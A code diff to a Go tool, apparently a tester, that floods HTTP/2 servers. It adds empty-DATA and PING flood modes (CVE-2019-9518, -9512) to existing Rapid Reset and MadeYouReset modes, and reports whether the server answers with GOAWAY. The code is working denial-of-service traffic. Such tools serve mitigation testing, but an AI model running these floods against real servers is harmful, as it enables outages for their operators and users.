@@ -6,7 +6,9 @@
 // a new connection, and its status. --mode window-update-0 sends a
 // WINDOW_UPDATE of 0 on each stream instead of RST_STREAM, which the
 // server must answer by resetting the stream itself ("MadeYouReset",
-// CVE-2025-8671).
+// CVE-2025-8671). --mode empty-data and --mode ping send frames that do no
+// work instead (CVE-2019-9518, -9512): on one POST stream, DATA frames
+// without data; or PING frames; --streams then bounds the frames.
 package main
 
 import (
@@ -28,7 +30,7 @@ import (
 
 // Report is what the command prints.
 type Report struct {
-	Sent       int    `json:"sent"`         // streams sent (HEADERS + RST_STREAM or WINDOW_UPDATE)
+	Sent       int    `json:"sent"`         // streams sent (HEADERS + RST_STREAM or WINDOW_UPDATE), or flood frames
 	GoAway     string `json:"goaway"`       // the GOAWAY's error code, "" when none came
 	Closed     bool   `json:"closed"`       // the server closed the connection
 	After      int    `json:"after_status"` // status of the normal GET on a new connection (0: failed)
@@ -40,10 +42,12 @@ func main() {
 	streams := flag.Int("streams", 5000, "streams to open and reset (upper bound)")
 	duration := flag.Duration("duration", 20*time.Second, "send for at most this long")
 	path := flag.String("path", "/", "request path")
-	mode := flag.String("mode", "rst", "how each stream is ended: rst (RST_STREAM CANCEL) or window-update-0")
+	mode := flag.String("mode", "rst", "how each stream is ended: rst (RST_STREAM CANCEL) or window-update-0; or a flood of frames doing no work: empty-data, ping")
 	flag.Parse()
-	if *mode != "rst" && *mode != "window-update-0" {
-		fmt.Fprintln(os.Stderr, "h2rapid: --mode: rst or window-update-0")
+	switch *mode {
+	case "rst", "window-update-0", "empty-data", "ping":
+	default:
+		fmt.Fprintln(os.Stderr, "h2rapid: --mode: rst, window-update-0, empty-data or ping")
 		os.Exit(2)
 	}
 	rep, err := run(*addr, *path, *mode, *streams, *duration)
@@ -97,7 +101,32 @@ func run(addr, path, mode string, streams int, duration time.Duration) (Report, 
 	}
 	// Without dynamic-table entries, the same block can be sent every time.
 	buf := enc(":method", "GET", ":scheme", "http", ":authority", addr, ":path", path)
-	for id := uint32(1); rep.Sent < streams && time.Now().Before(end); id += 2 {
+	if mode == "empty-data" || mode == "ping" {
+		if mode == "empty-data" {
+			post := enc(":method", "POST", ":scheme", "http", ":authority", addr, ":path", path)
+			if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: post, EndHeaders: true}); err != nil {
+				return rep, err
+			}
+		}
+		for rep.Sent < streams && time.Now().Before(end) && goAway.Load() == nil {
+			var err error
+			if mode == "ping" {
+				err = fr.WritePing(false, [8]byte{})
+			} else {
+				err = fr.WriteData(1, false, nil)
+			}
+			if err != nil {
+				break
+			}
+			rep.Sent++
+			if rep.Sent%100 == 0 {
+				// Paced (still 100000 frames a second): the frames sent
+				// show how soon the GOAWAY came.
+				time.Sleep(time.Millisecond)
+			}
+		}
+	}
+	for id := uint32(1); (mode == "rst" || mode == "window-update-0") && rep.Sent < streams && time.Now().Before(end); id += 2 {
 		if goAway.Load() != nil {
 			break
 		}
